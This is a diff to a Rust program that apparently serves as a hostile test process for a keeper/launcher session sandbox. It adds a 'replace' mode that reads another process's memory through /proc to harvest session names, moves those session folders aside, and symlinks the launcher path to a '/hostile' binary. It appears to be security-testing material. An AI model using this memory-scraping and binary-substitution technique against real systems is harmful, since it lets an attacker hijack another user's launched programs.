@@ -12,6 +12,8 @@
 //! - `trace-keeper`, `trace-launcher`: stops each that it sees with `ptrace`, as a debugger does.
 //! - `take`: kills each keeper whose session is running and takes its process id, with the
 //!   session's path in its own root.
+//! - `replace`: puts its own program at the path of the next launcher: reads names of paths in the
+//!   memory of each keeper, or lists them.
 //! - `pose`: starts a process with the command line of each launcher that it sees, and reports
 //!   which signal that process received.
 //!
@@ -120,6 +122,11 @@ fn main() -> io::Result<()> {
                 "take" => {
                     if role(pid).as_deref() == Some("run") && seen.insert(pid) {
                         take(pid);
+                    }
+                }
+                "replace" => {
+                    if role(pid).as_deref() == Some("keep") && replace(pid) {
+                        say("replace: done");
                     }
                 }
                 "pose" => {
@@ -292,6 +299,33 @@ fn take(launcher: i32) {
         }
     }
     unsafe { kill(launcher, SIGCONT) };
+}
+
+/// Replaces the paths that a keeper knows, or that can be listed, by paths to this program.
+fn replace(keeper: i32) -> bool {
+    let folder = std::path::PathBuf::from(format!("/proc/{keeper}/root/session"));
+    let listed = fs::read_dir(&folder).into_iter().flatten().flatten();
+    let mut names: HashSet<String> = listed.filter_map(|entry| entry.file_name().into_string().ok()).collect();
+    let maps = fs::read_to_string(format!("/proc/{keeper}/maps")).unwrap_or_default();
+    for range in maps.lines().filter(|line| line.contains(" rw")).filter_map(|line| line.split(' ').next()) {
+        let Some((start, end)) = range.split_once('-') else { continue };
+        let (Ok(start), Ok(end)) = (u64::from_str_radix(start, 16), u64::from_str_radix(end, 16)) else { continue };
+        let mut bytes = vec![0; (end - start) as usize];
+        let memory = File::open(format!("/proc/{keeper}/mem"));
+        if memory.and_then(|memory| std::os::unix::fs::FileExt::read_at(&memory, &mut bytes, start)).is_ok() {
+            let is_hex = |byte: &u8| matches!(byte, b'0'..=b'9' | b'a'..=b'f');
+            let words = bytes.split(|byte| !is_hex(byte)).filter(|word| word.len() == 32);
+            names.extend(words.map(|word| String::from_utf8_lossy(word).into_owned()));
+        }
+    }
+    let mut is_replaced = false;
+    for name in names.iter().filter(|name| name.len() == 32) {
+        let (path, aside) = (folder.join(name), folder.join(format!("{name}-old")));
+        if fs::rename(&path, aside).is_ok() && fs::create_dir_all(path.join("bin")).is_ok() {
+            is_replaced |= std::os::unix::fs::symlink("/hostile", path.join("bin").join(LAUNCHER)).is_ok();
+        }
+    }
+    is_replaced
 }
 
 /// Starts a process with the command line of the launcher.
